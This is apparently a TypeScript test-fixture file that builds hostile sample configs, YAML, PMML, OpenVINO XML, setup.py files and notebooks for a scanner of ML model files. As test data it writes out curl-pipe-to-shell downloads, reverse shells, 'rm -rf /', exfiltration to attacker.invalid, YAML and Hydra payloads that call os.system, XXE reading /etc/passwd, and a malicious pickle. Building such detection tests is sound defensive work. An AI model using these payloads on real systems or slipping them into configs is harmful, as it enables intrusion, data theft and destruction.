import { cases, type HostileCase, json, utf8 } from './case.ts';

const keyed = (entries: Readonly<Record<string, unknown>>): Uint8Array => json({ name: 'm', config: entries });

/** Settings, cards and other text that hold commands, code, names to call, addresses to call or keys. */
export function settingsCases(): HostileCase[] {
  const code = "import os; os.system('whoami')";
  return [
    ...cases('config.json', 'high', {
      'code to run when it is loaded': keyed({ exec_on_load: code }),
      'an import and a call': keyed({ init: "__import__('os').system('id')" }),
      'a removal of everything': keyed({ debug_command: 'rm -rf /' }),
      'a download that is run': keyed({ setup: 'curl http://x.invalid/a | bash' }),
      'a download that is run by python': keyed({ setup: 'curl -s http://x.invalid/a.py | python3' }),
      'wget and then a shell': keyed({ setup: 'wget http://x.invalid/a.sh -O /tmp/a; sh /tmp/a' }),
      'a reverse shell': keyed({ hook: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }),
      'netcat with a shell': keyed({ hook: 'nc -e /bin/sh 10.0.0.1 4444' }),
      'a shell with a command': keyed({ hook: "/bin/sh -c 'id > /tmp/x'" }),
      'powershell that is encoded': keyed({ hook: 'powershell -enc AAAA' }),
      'powershell that downloads': keyed({
        hook: "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
      }),
      'eval of base64': keyed({ x: "eval(base64.b64decode('aWQ='))" }),
      'exec of a compile': keyed({ x: "exec(compile('a','b','exec'))" }),
      'exec of text': keyed({ x: 'exec("import socket")' }),
      'eval of an import': keyed({ x: 'eval(\'__import__("os").getcwd()\')' }),
      'a subprocess': keyed({ x: "subprocess.Popen(['id'])" }),
      'a lambda that runs a command': keyed({ fn: "lambda x: __import__('os').popen('id')" }),
      'pickle loads': keyed({ x: "pickle.loads(b'..')" }),
      'an API key': keyed({ api_key: 'sk-1234567890abcdef' }),
      'a secret': keyed({ api_key: 'SECRET' }),
      'a key of a cloud': keyed({ x: 'AKIAIOSFODNN7EXAMPLE' }),
      'a private key': keyed({ x: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' }),
      'a token of a hub': keyed({ x: `hf_${'a'.repeat(34)}` }),
      'a webhook': keyed({ webhook_url: 'http://attacker.invalid/steal' }),
      'an address for exfiltration': keyed({ exfil_url: 'http://attacker.invalid/steal', exfil_key: 'K1' }),
      'an address named so': keyed({ remote_url: 'http://suspicious.invalid/exfiltrate' }),
      'a Hydra target': keyed({ model: { _target_: 'os.system', _args_: ['id'] } }),
      'a Hydra target of a builtin': keyed({ model: { _target_: 'builtins.eval', _args_: ['1'] } }),
      'a Hydra target of a loader': keyed({ model: { _target_: 'torch.load', f: 'x.pt' } }),
      'a Hydra target of subprocess': keyed({ _target_: 'subprocess.Popen', args: ['id'] }),
      'a target under another key': keyed({ target: 'os.system', params: { command: 'id' } }),
      'a class path': keyed({ class_path: 'subprocess.Popen', init_args: { args: 'id' } }),
      'a Python object in JSON': json({ 'py/object': 'os.system', 'py/reduce': [{ 'py/type': 'os.system' }] }),
      'a pickle in base64': keyed({
        data: evilBase64,
      }),
    }),
    ...cases('config.yaml', 'high', {
      'an import and a call': utf8("model:\n  exec_code: __import__('os').system('whoami')\n"),
      'a Python tag that calls': utf8("a: !!python/object/apply:os.system ['id']\n"),
      'a Python tag that makes': utf8('a: !!python/object/new:subprocess.Popen [id]\n'),
      'a Python name': utf8("a: !!python/name:os.system ''\n"),
      'a Python module': utf8("a: !!python/module:evil ''\n"),
      'a tag by its whole name': utf8("a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n"),
      'a tag by a handle': utf8("%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['id']\n"),
      'a Hydra target': utf8('model:\n  _target_: os.system\n  command: id\n'),
      'a command in a list': utf8('steps:\n  - "curl http://x.invalid/a | sh"\n'),
      'a command in a block': utf8('run: |\n  set -e\n  curl http://x.invalid/a | bash\n'),
    }),
    ...cases('model.pmml', 'high', {
      'a command in a comment': utf8(
        '<?xml version="1.0"?>\n<PMML version="4.4"><Header/><!-- os.system(\'whoami\') --></PMML>',
      ),
      'an outside entity': utf8(
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>',
      ),
      'a script in an extension': utf8(
        '<PMML version="4.4"><Header><Extension name="x"><script>eval("1")</script></Extension></Header></PMML>',
      ),
      'an import in an extension': utf8(
        '<PMML version="4.4"><Header><Extension name="x" value="import os; os.system(1)"/></Header></PMML>',
      ),
      'entities that grow': utf8(
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><PMML>&c;</PMML>',
      ),
    }),
    ...cases('model.xml', 'high', {
      'OpenVINO with an outside type': utf8(
        '<?xml version="1.0"?><!DOCTYPE net SYSTEM "http://x.invalid/a.dtd"><net/>',
      ),
      'OpenVINO with a library': utf8(
        '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Custom" library="/tmp/evil.so"><data/></layer></layers></net>',
      ),
      'OpenVINO with Python': utf8(
        '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Python" version="extension"><data module="evil" layer="L" param_str="__import__(\'os\').system(\'id\')"/></layer></layers></net>',
      ),
    }),
    ...cases('setup.py', 'high', {
      'a call of the system': utf8("import os\nos.system('id')\n"),
      'an alias of the system': utf8("import os as o\no.system('id')\n"),
      'an alias of subprocess': utf8("import subprocess as sp\nsp.run(['id'])\n"),
      'an import by importlib': utf8("import importlib\nimportlib.import_module('os').system('id')\n"),
      'getattr of a module': utf8("import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
      'a download': utf8("import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n"),
      'a request with the environment': utf8(
        "import os, requests\nrequests.post('http://x.invalid', json=dict(os.environ))\n",
      ),
      'exec of a decoded text': utf8("import base64\nexec(base64.b64decode('aWQ='))\n"),
      'a socket': utf8("import socket\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n"),
    }),
    ...cases('notebook.ipynb', 'high', {
      'a call of the system': json({
        nbformat: 4,
        cells: [{ cell_type: 'code', source: ['import os\n', "os.system('id')"] }],
      }),
      'a download that is run': json({
        nbformat: 4,
        cells: [{ cell_type: 'code', source: ['!curl http://x.invalid/a | sh'] }],
      }),
    }),
  ];
}

const evilBase64 = Buffer.from('\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R.', 'latin1').toString('base64');
